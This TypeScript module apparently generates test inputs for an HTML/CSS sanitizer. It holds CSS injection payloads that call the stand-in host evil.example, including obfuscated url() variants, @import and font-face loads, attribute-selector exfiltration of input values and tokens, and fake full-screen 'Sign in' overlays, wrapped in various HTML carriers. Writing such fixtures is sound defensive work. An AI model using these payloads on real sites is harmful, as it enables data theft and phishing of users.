import { cross, words } from './cross.ts';

const PROPERTIES = words(`background background-image list-style list-style-image border-image
  border-image-source content cursor mask mask-image -webkit-mask-image clip-path filter
  backdrop-filter shape-outside offset-path -webkit-box-reflect behavior -moz-binding`);
const VALUES = [
  'url(//evil.example/x)',
  'url("//evil.example/x#y"), pointer',
  'URL( //evil.example/x )',
  '\\75rl(//evil.example/x)',
  'u\\72 l(//evil.example/x)',
  '/**/url(//evil.example/x)/**/',
  'image-set("//evil.example/x" 1x)',
  '-webkit-image-set(url(//evil.example/x) 1x)',
  'cross-fade(url(//evil.example/x), url(/x.png))',
  'image("//evil.example/x")',
  'src("//evil.example/x")',
  'var(--x, url(//evil.example/x))',
];
const SHEETS = [
  '@import "//evil.example/x.css";',
  '@import url(//evil.example/x.css) layer(a);',
  '@font-face{font-family:x;src:url(//evil.example/f)} *{font-family:x}',
  'input[value^=a]{background:url(//evil.example/a)}',
  'a[href*=token]::after{content:url(//evil.example/t)}',
  ':root{--u:url(//evil.example/u)} body{background:var(--u)}',
  '@namespace x url(//evil.example/n); body{cursor:url(//evil.example/c),auto}',
  'body *{position:fixed!important;inset:0;background:red}',
  'main{display:none} html::before{content:"Sign in";position:fixed;inset:0}',
  '@media all{header{background:url(//evil.example/h)}}',
  '@container(width>0){p{background:url(//evil.example/q)}}',
  '@supports(display:block){p{background:url(//evil.example/s)}}',
];
const SHEET_CARRIERS: readonly ((css: string) => string)[] = [
  (css) => `<style>${css}</style><p>x</p>`,
  (css) => `<p>x</p><style media=all>${css}</style>`,
  (css) => `<svg><style>${css}</style><path d="M0 0"/></svg>`,
  (css) => `<link rel=stylesheet href="data:text/css,${encodeURIComponent(css)}"><p>x</p>`,
  (css) => `<noscript><style>${css}</style></noscript><p>x</p>`,
  (css) => `<div><template shadowrootmode=open><style>${css}</style></template>x</div>`,
];

export const styles: readonly string[] = [
  ...cross(PROPERTIES, VALUES, (name, value) => `<p style='${name}:${value}'>x</p>`),
  ...cross(SHEET_CARRIERS, SHEETS, (carry, css) => carry(css)),
];
